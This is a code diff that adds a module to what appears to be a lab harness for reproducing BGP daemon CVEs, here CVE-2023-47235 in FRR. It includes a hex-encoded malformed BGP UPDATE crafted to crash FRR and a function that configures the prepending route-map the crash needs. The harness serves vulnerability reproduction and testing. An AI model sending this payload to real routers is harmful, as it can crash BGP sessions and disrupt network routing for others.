@@ -49,6 +49,31 @@ pub mod cve_2023_46753 {
     }
 }
 
+/// CVE-2023-47235: FRR up to 9.0 with a route-map that prepends dies of an UPDATE that it takes for End-of-RIB although there are prefixes
+/// behind it, one of them impossible.
+pub mod cve_2023_47235 {
+    use crate::daemons::Instance;
+    use crate::lab::Netns;
+    use crate::operate;
+    use anyhow::Result;
+    use std::net::IpAddr;
+
+    /// UPDATE: one unknown attribute without a value, and prefixes of which the third is longer than any.
+    pub const UPDATE: &str = "ffffffffffffffffffffffffffffffff002b0200000003c0ff00010100eb00ac100b0b001ad908ac100b0b";
+
+    /// What the session offers beside IPv4, 4-octet ASes and route refresh: graceful restart, and IPv6.
+    pub const OFFER: [&str; 3] = ["--graceful-restart", "--capability", "1:00020001"];
+
+    /// Gives a running FRR a route-map that prepends, for everything this neighbour says.
+    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
+        let commands = format!(
+            "configure terminal\nbgp route-map delay-timer 0\nroute-map ALL permit 10\nset as-path prepend 65000\n\
+             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map ALL in"
+        );
+        operate::control(frr, ns, &commands).map(|_| ())
+    }
+}
+
 /// BIRD up to 2.17.4 with a path mask in a filter runs over an array where the path has some thousands of ASes; extended messages
 /// (RFC 8654) carry one.
 pub mod as_path_mask {
